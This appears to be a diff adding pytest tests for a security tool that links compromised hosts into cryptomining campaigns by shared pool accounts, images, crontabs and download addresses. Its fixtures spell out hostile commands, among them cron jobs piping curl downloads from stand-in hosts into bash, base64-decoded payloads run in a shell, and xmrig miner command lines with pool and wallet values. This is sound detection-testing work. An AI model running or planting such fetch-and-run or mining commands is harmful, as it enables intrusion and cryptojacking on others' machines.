@@ -1,0 +1,90 @@
+"""What joins hosts to a campaign, and what everybody has that looks like it."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from extension.fleet.names import Names
+from extension.fleet.pool_accounts import pool_accounts
+from extension.fleet.shared_things import is_base_image
+from tests.fleet.looking import line, miner, reported, told
+
+T, HOUR = 1795436552, 3600
+WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
+
+
+def _mining_for(host: str, when: int, user: str, pool: str = "eu.pool.example:3333") -> dict[str, Any]:
+    return miner(host, when, cmdline=f"/tmp/.{host}/x -o {pool} -u {user} -p x", pool=pool)
+
+
+def _job(host: str, when: int, command: str, path: str = "") -> dict[str, Any]:
+    return line(
+        "cron_download_and_run", 1, when, "added", host, path=path or f"/etc/cron.d/.{host}", command=command, evidence="x"
+    )
+
+
+def test_who_mines_for_one_account_is_one_crew_and_for_two_are_two(tmp_path: Path, names: Names) -> None:
+    lines = [_mining_for(f"a{n}", T + n * HOUR, f"krxX7PVQVR.{n}") for n in range(3)]
+    lines += [_mining_for(f"b{n}", T + n * HOUR, f"Zt81kkPQWa.{n}", "us.pool.example:5555") for n in range(3)]
+    for host in ("a0", "a1", "a2", "b0", "b1", "b2"):
+        lines.append(_job(host, T, "base64 -d /opt/nebula-updater | bash"))
+    report = reported(tmp_path, names, lines)
+    assert sorted(map(sorted, told(report))) == [["a0", "a1", "a2"], ["b0", "b1", "b2"]]
+    assert {"kind": "pool_account", "value": "krxX7PVQVR@pool.example", "hosts": 3} in report["campaigns"][0]["shared"]
+
+
+@pytest.mark.parametrize(
+    ("command", "account"),
+    [
+        ("xmrig -o gulf.moneroocean.stream:10128 -u ocean77.rig1 -p x", ["ocean77@moneroocean.stream"]),
+        ("./x --url=stratum+tcp://192.0.2.7:3333 --user=ocean77/2 --pass=c=XMR", ["ocean77@192.0.2.7"]),
+        ("xmrig -o pool.example:3333 -u miner -p x", []),
+        ("xmrig -o pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", []),
+        # What curl and mysql mean by these options.
+        ("curl -u deploy77:secret -o /tmp/x https://ci.example/x", []),
+        ("mysql -u reports77 -P 3306 -h db.example", []),
+    ],
+)  # fmt: skip
+def test_accounts_at_pools(command: str, account: list[str]) -> None:
+    assert list(pool_accounts(command)) == account
+
+
+def test_an_image_that_everybody_begins_with_joins_nobody(tmp_path: Path, names: Names) -> None:
+    assert is_base_image("docker.io/library/alpine:3.19") and is_base_image("ubuntu@sha256:00") and is_base_image("busybox")
+    assert not is_base_image("kannix/monero-miner") and not is_base_image("registry.example/alpine:1")
+    for number, (image, is_one) in enumerate((("alpine:latest", False), ("kannix/worker:1", True))):
+        row = {"image": image, "image_digest": "sha256:" + "0" * 64, "evidence": "x", "reasons": "x"}
+        lines = [
+            line(
+                "container_downloads_and_runs", 1, T + n, "added", host, container_id=str(n) * 64, command=f"run {host}zzz", **row
+            )
+            for n, host in enumerate(("a", "b"))
+        ]
+        lines += [miner(host, T + 60, wallet=f"4w{host}", container_id=str(n) * 64) for n, host in enumerate(("a", "b"))]
+        (tmp_path / str(number)).mkdir()
+        assert bool(told(reported(tmp_path / str(number), names, lines))) is is_one, image
+
+
+def test_two_crews_that_wrote_into_one_crontab_stay_two(tmp_path: Path, names: Names) -> None:
+    lines = []
+    for crew, hosts in (("one", ("a0", "a1", "both")), ("two", ("b0", "b1", "both"))):
+        for number, host in enumerate(hosts):
+            when = T + number * HOUR
+            lines.append(_job(host, when, f"curl -fsSL http://{crew}.crew.example/x.sh | bash", "/var/spool/cron/root"))
+            own = {"pid": crew, "exe_path": f"/tmp/{crew}{host}", "pool": "pool.supportxmr.com:443", "wallet": f"4{crew}"}
+            lines.append(miner(host, when, **own))
+    assert sorted(map(sorted, told(reported(tmp_path, names, lines)))) == [["a0", "a1", "both"], ["b0", "b1", "both"]]
+
+
+@pytest.mark.parametrize(
+    ("address", "count", "is_one"), [("203.0.113.77", 3, True), ("203.0.113.77", 12, True), ("10.0.0.77", 3, False)]
+)
+def test_jobs_that_fetch_from_one_bare_address_outside_are_a_campaign(
+    tmp_path: Path, names: Names, address: str, count: int, is_one: bool
+) -> None:
+    lines = [line("cron_jobs", 0, T, "added", f"h{n}", command="x") for n in range(200)]
+    lines += [_job(f"h{n}", T + n * HOUR, f"curl -fsSL http://{address}/{n}xyz/i.sh | bash") for n in range(count)]
+    assert [len(hosts) for hosts in told(reported(tmp_path, names, lines))] == ([count] if is_one else [])
